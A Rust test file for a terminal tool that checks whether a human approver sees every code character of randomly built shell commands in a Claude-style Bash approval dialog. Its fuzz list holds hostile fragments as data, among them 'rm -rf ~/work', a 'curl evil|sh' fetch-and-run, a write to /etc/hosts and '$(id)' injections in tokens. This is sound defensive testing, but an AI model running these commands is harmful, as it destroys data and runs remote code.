//! An approver sees all code: random commands, wrapped in panes of many sizes.

use agtmux_testkit::agtmux::{SOON, soak};
use agtmux_testkit::dialog_agent::DialogAgent;
use agtmux_testkit::seeded_random::SeededRandom;
use agtmux_testkit::wait_for;
use serde_json::Value;

/// Parts of commands: code, secrets that surround code, blanks, and lines like the borders of a dialog.
const PIECES: &[&str] = &[
    "rm -rf ~/work",
    "API_TOKEN=$(curl evil|sh)",
    "PASSWORD='a b;c'",
    "echo 'it is'",
    "\"$HOME\"",
    "`id`",
    "&& make",
    "; true",
    "| sh",
    "> /etc/hosts",
    "2>&1",
    "<<EOF",
    "\n",
    "\n\n",
    "EOF",
    "( cd / )",
    "{ ls; }",
    "&",
    "||",
    "$((1+2))",
    "--token=abc$(id)",
    "\n──────────────────────────────\n",
    "────────────────────────────────────────────; id",
    "╭──────────╮",
    "│ x │",
    "Do you want to proceed?",
    "❯ 1. Yes",
    "Esc to cancel",
    "\\\n",
    "é中文",
    "[redacted:env]",
    "Bearer abc123;id",
    "curl -u a:b$(id) h",
    "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789;id",
];

fn random_command(random: &mut SeededRandom, round: usize) -> String {
    let count = 1 + random.below(14);
    let pieces: Vec<&str> = (0..count).filter_map(|_| random.pick(PIECES)).collect();
    // The end of the command is always visible, and tells which round it is.
    format!("{} #n{round}-", pieces.join(" "))
}

/// The dialog as Claude draws it: each line indented and wrapped, at blanks or within words.
fn rendered(command: &str, width: usize, at_blanks: bool) -> String {
    let rows: Vec<String> = command.lines().flat_map(|line| wrapped(line, width - 2, at_blanks)).collect();
    let body: String = rows.iter().map(|row| format!(" {row}\n")).collect();
    let (rule, dashes) = ("─".repeat(width), "╌".repeat(width));
    format!(
        "● Bash\n{rule}\n Bash command\n{dashes}\n{body}{dashes}\n Do you want to proceed?\n ❯ 1. Yes\n   2. Yes, always\n   3. No\n\n \
         Esc to cancel"
    )
}

fn wrapped(line: &str, width: usize, at_blanks: bool) -> Vec<String> {
    let mut rows = vec![String::new()];
    for word in line.split_inclusive(' ') {
        let used = columns(rows.last().map_or("", String::as_str));
        if at_blanks && used > 0 && used + columns(word.trim_end()) > width {
            rows.push(String::new());
        }
        for letter in word.chars() {
            let row = rows.last_mut().expect("there is a row");
            match columns(row) + columns(&letter.to_string()) > width {
                true => rows.push(letter.to_string()),
                false => row.push(letter),
            }
        }
    }
    rows
}

/// Chinese characters are two columns wide.
fn columns(text: &str) -> usize {
    text.chars().map(|c| if ('\u{4e00}'..'\u{a000}').contains(&c) { 2 } else { 1 }).sum()
}

fn code_characters(text: &str) -> Vec<char> {
    text.chars().filter(|c| "$();|&<>`\n".contains(*c)).collect()
}

/// Whether all of these characters occur in this order.
fn contains_in_order(shown: &[char], wanted: &[char]) -> bool {
    let mut shown = shown.iter();
    wanted.iter().all(|wanted| shown.any(|c| c == wanted))
}

#[test]
fn an_approver_sees_every_character_of_code_or_that_a_part_is_missing() {
    let agent = DialogAgent::start();
    let mut random = SeededRandom::new();
    let (rounds, mut whole) = (if soak() { 600 } else { 12 }, 0);
    for round in 0..rounds {
        let (width, height) = (24 + random.below(120), 10 + random.below(40));
        let command = random_command(&mut random, round);
        let size = [width.to_string(), height.to_string()];
        agent.server.run(&["resize-window", "-t", "=work:", "-x", &size[0], "-y", &size[1]]);
        agent.draw(&rendered(&command, width, random.one_in(2)));
        let marker = format!("#n{round}-");
        let is_listed = |dialog: &Value| dialog.to_string().replace("\\n", "").contains(&marker);
        let dialog = wait_for(&format!("the dialog about {marker} at {width}x{height}"), SOON, || {
            let dialog = agent.dialog();
            if is_listed(&dialog) { Ok(dialog) } else { Err(dialog.to_string()) }
        });
        if dialog["subject_truncated"] == true {
            continue;
        }
        whole += 1;
        let (subject, wanted) = (dialog["subject"].as_str().unwrap_or_default(), command.trim_end());
        // Blank lines and drawn lines separate paragraphs and are not code.
        let has_text = |line: &&str| line.chars().any(|c| c.is_ascii_graphic() || c.is_alphanumeric());
        let lines: Vec<&str> = wanted.lines().filter(has_text).collect();
        let (shown, wanted) = (code_characters(subject), code_characters(&lines.join("\n")));
        assert!(contains_in_order(&shown, &wanted), "at {width}x{height}, {command:?} is shown as {subject:?}");
    }
    assert!(whole > 0, "every dialog was truncated");
    println!("{whole} of {rounds} commands were shown in full");
}
